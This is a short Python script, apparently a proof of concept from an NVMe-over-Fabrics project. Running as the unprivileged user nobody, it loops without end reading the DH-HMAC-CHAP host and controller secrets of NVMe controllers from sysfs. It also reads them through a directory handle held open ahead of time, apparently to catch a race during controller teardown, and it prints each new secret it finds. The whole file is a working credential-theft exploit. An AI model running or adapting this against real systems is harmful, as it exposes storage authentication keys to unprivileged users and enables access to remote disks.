# Copyright (c) 2026 the nvmeof.mptcp authors
# SPDX-License-Identifier: GPL-3.0-or-later
"""Runs on a machine as nobody, reads every secret in sysfs that it can, all the time, and prints each once."""

from __future__ import annotations

import contextlib
import itertools
import os

CTL = "/sys/devices/virtual/nvme-fabrics/ctl"
NAMES = ("dhchap_secret", "dhchap_ctrl_secret")
seen: set[str] = {"none"}
#: Held open since before anything was closed.
folder = -1
for count in itertools.count():
    if folder < 0:
        with contextlib.suppress(OSError):
            folder = os.open(CTL, os.O_PATH | os.O_DIRECTORY)
    for number, name in itertools.product(range(16), NAMES):
        for path, at in ((f"/sys/class/nvme/nvme{number}/{name}", None), (f"nvme{number}/{name}", folder)):
            try:
                handle = os.open(path, os.O_RDONLY, dir_fd=at)
            except OSError:
                continue
            with contextlib.suppress(OSError):
                secret = os.read(handle, 4096).decode().strip()
                if secret not in seen:
                    print(secret, flush=True)
                seen.add(secret)
            os.close(handle)
    if count == 0:
        print("looking", flush=True)
